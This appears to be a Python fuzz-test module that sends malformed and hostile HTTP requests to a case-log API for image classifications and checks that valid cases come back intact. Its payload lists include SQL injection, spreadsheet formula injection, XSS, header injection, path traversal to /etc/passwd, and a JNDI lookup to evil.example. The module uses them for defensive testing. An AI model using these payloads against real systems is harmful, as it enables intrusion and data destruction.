"""Makers of hostile requests to the case log, and of good ones that must come back as saved."""

from __future__ import annotations

import hashlib
import json

import numpy as np

from tests.fuzz.damage import LYING, RANDOM
from tests.fuzz.messages import END, FORM, ID, Asked, Maker, part, request
from tests.fuzz.whole import Whole

_JSON = b"application/json"
_CASES = b"/v1/cases"
_ONE = _CASES + b"/" + ID
_IMAGE = _ONE + b"/image"

_TEXTS = (
    "\0",
    "".join(map(chr, range(32))) + "\x7f\x80\x9f",
    "'; DROP TABLE cases; --",
    "' OR 1=1) UNION SELECT content FROM images --",
    "=cmd|' /C calc'!A0",
    "@SUM(1)\t=1\r\n-1",
    '＝HYPERLINK("http://evil.example")',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u202etxt.exe\u2066\ufeff\ufffe\uffff\u2028",
    "a\r\nSet-Cookie: a=b\r\n\r\nHTTP/1.1 200 OK",
    "../../../../etc/passwd\0.png",
    "%s%n%x${jndi:ldap://evil.example}{0.__class__}",
    "Z\u0351\u036b\u0343" * 30 + "\U0001f469\u200d\U0001f52c\U0010ffff",
    "__proto__",
    "",
)
_VALUES = (
    None,
    True,
    -1,
    0,
    10**400,
    1e308,
    "\ud800",  # alone, as no text can have it
    "\udfff\ud800",
    "a" * 10_001,
    "1",
    [],
    {},
    [[[]]],
    ["a"] * 1001,
    {"a": {}},
    {"a" * 201: 0.5},
    {"a": "0.5"},
    {"a": -0.0, "b": 1.0000001},
    {str(number): 0.5 for number in range(1001)},
    ["a" * 100_000],
    "a" * 64,
)
_BODIES = (
    b"",
    b"null",
    b"[]",
    b'"',
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"comment":"' + b"a" * 600_000 + b'"}',
    b'{"width":' + b"1" * 300_000 + b"}",
    b'{"probabilities":{"a":NaN,"b":Infinity,"c":1e999999}}',
    b'{"comment":"\\ud800"}',
    b'{"comment":"\xff\xfe"}',
    b'{"comment":"\xed\xa0\x80"}',
    b"\xef\xbb\xbf{}",
    "{}".encode("utf-16"),
    b"{}{}",
    b'{"verdict":"accepted","verdict":"corrected"}' * 1000,
    b" " * 500_000,
)
_IDS = (
    b"",
    b".",
    b"..",
    b"../cases",
    b"..%2f..%2fetc%2fpasswd",
    b"%2e%2e/%2e%2e/cases.db",
    b"%00",
    b"%ff%fe%ed%a0%80",
    b"'%20OR%20'1'='1",
    b"%27;DROP%20TABLE%20cases;--",
    b"%25",
    b"*",
    b"0" * 20,
    b"a" * 64,
    b"a" * 65,
    b"a" * 5000,
    b"-1",
    b"NaN",
    b"a;b=c",
    b"a%2fimage",
    b"a//image",
    b"C:%5ccases.db",
    b"cases.db",
    b"%f0%9f%92%a3",
)
_QUERIES = (
    b"offset=-1",
    b"offset=999999999",
    b"offset=99999999999999999999999",
    b"limit=1000",
    b"limit=1001",
    b"limit=0&limit=1000&limit=x",
    b"limit=1e3",
    b"limit=%00",
    b"limit=%d9%a3",
    b"offset=1;DROP%20TABLE%20cases",
    b"sha256=" + b"a" * 64,
    b"sha256=" + b"A" * 64,
    b"sha256=" + b"a" * 64 + b"%0a",
    b"sha256=%27%20OR%201=1",
    b"sha256[]=a",
    b"format=../../etc/passwd",
    b"a=b&" * 500,
    b"%ff=%fe",
    b"?&&==;;#",
)
_METHODS = (b"PATCH", b"DELETE", b"PUT", b"POST", b"OPTIONS", b"HEAD", b"TRACE", b"GET", b"get")


def _case(rng: np.random.Generator, data: bytes | None = None, **changes: object) -> bytes:
    """A case about an image, or about one of no more than a digest."""
    digest = hashlib.sha256(rng.bytes(8) if data is None else data).hexdigest()
    case: dict[str, object] = {
        "verdict": "corrected",
        "correct": ["plain"],
        "comment": f"Number {rng.integers(1 << 30)}, ordinary.",
        "sha256": digest,
        "width": 40,
        "height": 35,
        "model": "blocks",
        "called": ["bright"],
        "probabilities": {"plain": 0.25, "bright": 0.75},
    }
    return json.dumps({**case, **changes}).encode()


def _post(body: bytes, kind: bytes = _JSON) -> bytes:
    return request(body, target=_CASES, kind=kind)


def _change(revision: int, comment: str) -> bytes:
    body = {"verdict": "undecided", "comment": comment, "revision": revision}
    return request(json.dumps(body).encode(), method=b"PUT", target=_ONE, kind=_JSON)


def _keep(form: bytes) -> bytes:
    return request(form, method=b"PUT", target=_IMAGE)


def _get(target: bytes) -> bytes:
    return request(b"", method=b"GET", target=target)


def _gone(kind: str) -> tuple[Asked, ...]:
    """Delete the case, after which it is not there."""
    delete = request(b"", method=b"DELETE", target=_ONE)
    return (
        Asked(kind, (delete,), statuses=(204,)),
        Asked(kind, (_get(_ONE),), statuses=(404,)),
        Asked(kind, (_get(_IMAGE),), statuses=(404,)),
    )


def case_body(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """A case that is none."""
    kind = _JSON
    choice = rng.random()
    if choice < 0.3:
        body = RANDOM[str(rng.choice(list(RANDOM)))](_case(rng), rng)
    elif choice < 0.7:
        names = [*json.loads(_case(rng)), "frame", "folder_id", "reader", "label", "id", "\ud800"]
        value = _VALUES[int(rng.integers(len(_VALUES)))]
        body = _case(rng, **{str(rng.choice(names)): value})
    elif choice < 0.9:
        body = _BODIES[int(rng.integers(len(_BODIES)))]
    else:
        body = _case(rng)
        kinds = (FORM, b"text/plain", b"application/json; charset=utf-7", b"", b"\xff", b"*/*")
        kind = kinds[int(rng.integers(len(kinds)))]
    if rng.random() < 0.3:
        target = _CASES + b"/" + b"0" * 20
        return Asked("case body", (request(body, method=b"PUT", target=target, kind=kind),))
    return Asked("case body", (_post(body, kind),))


def case_text(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """Texts that mean harm elsewhere: saved, told as they were, and exported."""
    text = _TEXTS[int(rng.integers(len(_TEXTS)))]
    long = (text or "a") * (10_000 // max(1, len(text)))
    told = (("comment", long), ("label", text), ("called", [text]))
    body = _case(
        rng,
        comment=long,
        label=text,
        reader=text[:100],
        model=text,
        folder_id=text[:64],
        called=[text],
        correct=[text],
        probabilities={text: 0.5, "plain": 1e-300},
    )
    again = _TEXTS[int(rng.integers(len(_TEXTS)))]
    then = (
        Asked("case text", (_get(_ONE),), statuses=(200,), tells=told),
        Asked("case text", (_change(1, again),), statuses=(200,), tells=(("comment", again),)),
        Asked("case text", (_get(_CASES + b".csv"),), statuses=(200,)),
    )
    left = () if rng.random() < 0.2 else _gone("case text")
    return Asked("case text", (_post(body),), statuses=(201,), tells=told, then=(*then, *left))


def case_id(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """A case that is not there, and paths that lead out."""
    target = _CASES + b"/" + _IDS[int(rng.integers(len(_IDS)))]
    method = _METHODS[int(rng.integers(len(_METHODS)))]
    if rng.random() < 0.5:
        body = part(images["png grey"].data) + END
        return Asked("case id", (request(body, target=target + b"/image", method=method),))
    body = json.dumps({"verdict": "accepted", "revision": 1}).encode()
    return Asked("case id", (request(body, target=target, method=method, kind=_JSON),))


def case_query(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """Lists and exports with queries that are odd."""
    target = (_CASES, _CASES + b".csv")[int(rng.random() < 0.4)]
    queries = [_QUERIES[int(i)] for i in rng.integers(len(_QUERIES), size=2)]
    return Asked("case query", (_get(target + b"?" + b"&".join(queries)),))


def case_method(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """Methods that a route has not, with a body that another one takes."""
    targets = (_CASES, _CASES + b".csv", _CASES + b"/", _ONE, _IMAGE, _IMAGE + b"/x")
    target = targets[int(rng.integers(len(targets)))]
    method = _METHODS[int(rng.integers(len(_METHODS)))]
    body = b"" if rng.random() < 0.5 else b"x" * 1000
    return Asked("case method", (request(body, target=target, method=method, kind=_JSON),))


def case_image(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """A damaged image, another image, or a damaged form for a case."""
    whole = images[str(rng.choice(list(images)))]
    damages = [RANDOM[str(rng.choice(list(RANDOM)))], LYING[whole.format]]
    data = damages[int(rng.random() < 0.5)](whole.data, rng)
    form = part(data) + END
    damaged = RANDOM[str(rng.choice(list(RANDOM)))](form, rng)
    # It is that image, whatever it shows; but no other, and no page.
    statuses = (200, 409, 415, 422)
    kind = "case image"
    then = (
        Asked(kind, (_keep(damaged),), statuses=statuses),
        Asked(kind, (_keep(part(images["png grey"].data) + END),), statuses=(409, 200)),
        Asked(kind, (_keep(part(b"<html>" + data) + END),), statuses=(415, 409)),
        Asked(kind, (_keep(form),), statuses=(200, 415, 422)),
        Asked(kind, (_get(_IMAGE),), statuses=(200, 404)),
        *_gone(kind),
    )
    return Asked(kind, (_post(_case(rng, data)),), statuses=(201,), then=then)


def case_race(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """Changes from the same revision: one is taken, the others are told so."""
    changes = tuple(
        Asked("case race", (_change(1, f"reader {number}"),), statuses=(200, 409))
        for number in range(int(rng.integers(2, 7)))
    )
    return Asked("case race", (_post(_case(rng)),), statuses=(201,), then=changes, race=True)


def case_vanishing(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """Clients that go while a case is sent, or its table is."""
    whole = _post(_case(rng, comment="a" * 9000)) if rng.random() < 0.7 else _get(_CASES + b".csv")
    cut = int(rng.integers(1, len(whole) + 1))
    return Asked("case vanishing", (whole[:cut],), leave=True)


def case_good(rng: np.random.Generator, images: dict[str, Whole]) -> Asked:
    """A case with its image, which must come back as they were."""
    kind = "case good"
    names = [name for name, whole in images.items() if whole.format in ("PNG", "JPEG", "DICOM")]
    data = images[str(rng.choice(names))].data
    comment = f"Comment {rng.integers(1 << 30)}: schön."
    told = (("comment", comment), ("correct", ["plain"]), ("revision", 1))
    kept = (*told, ("has_image", True))
    changed = (("comment", "Changed."), ("revision", 2), ("has_image", True))
    keep = _keep(part(b"1", b"other", b"") + part(data) + END)
    digest = hashlib.sha256(data).hexdigest().encode()
    then = (
        Asked(kind, (_get(_ONE),), statuses=(200,), tells=told),
        Asked(kind, (keep,), statuses=(200,), tells=kept),
        Asked(kind, (_get(_IMAGE),), statuses=(200,), content=data),
        Asked(kind, (_change(1, "Changed."),), statuses=(200,), tells=changed),
        Asked(kind, (_change(1, "Late."),), statuses=(409,)),
        Asked(kind, (_get(_CASES + b"?sha256=" + digest),), statuses=(200,)),
        Asked(kind, (_get(_CASES + b".csv"),), statuses=(200,)),
    )
    left = () if rng.random() < 0.2 else _gone(kind)
    body = _case(rng, data, comment=comment)
    return Asked(kind, (_post(body),), statuses=(201,), tells=told, then=(*then, *left))


CASE_KINDS: dict[Maker, int] = {
    case_body: 14,
    case_text: 5,
    case_id: 9,
    case_query: 6,
    case_method: 4,
    case_image: 5,
    case_race: 3,
    case_vanishing: 2,
    case_good: 4,
}
"""Makers of requests to the case log, and how often each is chosen."""
